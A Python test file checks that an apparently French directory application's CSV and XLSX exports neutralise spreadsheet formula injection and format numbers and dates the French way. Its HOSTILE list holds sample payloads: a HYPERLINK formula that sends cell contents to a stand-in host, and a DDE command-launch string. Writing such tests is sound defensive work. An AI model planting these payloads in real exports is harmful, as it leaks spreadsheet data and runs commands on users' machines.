"""CSV exports never hand a spreadsheet a formula (OWASP "CSV injection"): a
directory name such as ``=HYPERLINK(…)`` is exported as text."""

from __future__ import annotations

import csv
import io

from fastapi.testclient import TestClient

from api.app import create_app
from api.exports import csv_text
from graph.model import Node, NodeKind
from graph.settings import Settings
from graph.stores.memory import MemoryStore
from tests.conftest import bearer
from tests.factories import Network

HOSTILE = ['=HYPERLINK("http://example.invalid/?"&A1;"voir")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"]


def test_every_formula_start_is_neutralised_numbers_stay_numbers():
    text = csv_text([HOSTILE + [-12.5, 3, "ordinaire"]])
    assert text.startswith("\ufeff")  # UTF-8 with BOM: French Excel reads the accents
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff")), delimiter=";"))
    assert rows == [["'" + h for h in HOSTILE] + ["-12,5", "3", "ordinaire"]]  # decimal comma


def test_french_spreadsheet_cells():
    from api.exports import csv_text as write

    rows = list(
        csv.reader(
            io.StringIO(write([[0.000012, 1234.5, True, None, "2021-01-08", float("nan")]])[1:]),
            delimiter=";",
        )
    )
    assert rows == [["0,000012", "1234,5", "oui", "", "08/01/2021", ""]]  # no exponent, dates JJ/MM/AAAA


def test_the_workbook_holds_text_never_a_formula():
    from openpyxl import load_workbook

    from api.exports import xlsx_bytes

    book = load_workbook(
        io.BytesIO(xlsx_bytes([["nom", "distance"], *[[h, 12.5] for h in HOSTILE]], "Essai"))
    )
    sheet = book["Essai"]
    cells = [c for row in sheet.iter_rows() for c in row]
    assert not any(c.data_type == "f" for c in cells)
    assert [c.value for c in sheet["A"]][1:] == ["'" + h for h in HOSTILE]
    assert all(c.value == 12.5 for c in sheet["B"][1:])  # numbers stay numbers


def test_the_orientation_sheet_exports_a_hostile_name_as_text(tmp_path):
    store = MemoryStore(tmp_path / "data")
    try:
        net = Network(store)
        for i, name in enumerate(HOSTILE):
            ref = net.establishment(f"86000010{i}", 5 + i, expertise={"DV": 3})
            store.upsert([Node(NodeKind.ESTABLISHMENT, ref.key, {"name": name, "phone": "=1+1"})])
        with TestClient(
            create_app(Settings(data_dir=tmp_path / "data"), store=store), headers=bearer(store)
        ) as client:
            response = client.get("/recherche/fiche.csv", params={"d": "DV", "lieu": "86194", "rayon": "100"})
        assert response.status_code == 200, response.text[:300]
        rows = list(csv.reader(io.StringIO(response.text.removeprefix("\ufeff")), delimiter=";"))
        names = {row[2] for row in rows[1:]}
        assert {"'" + h for h in HOSTILE} <= names
        assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
    finally:
        store.close()
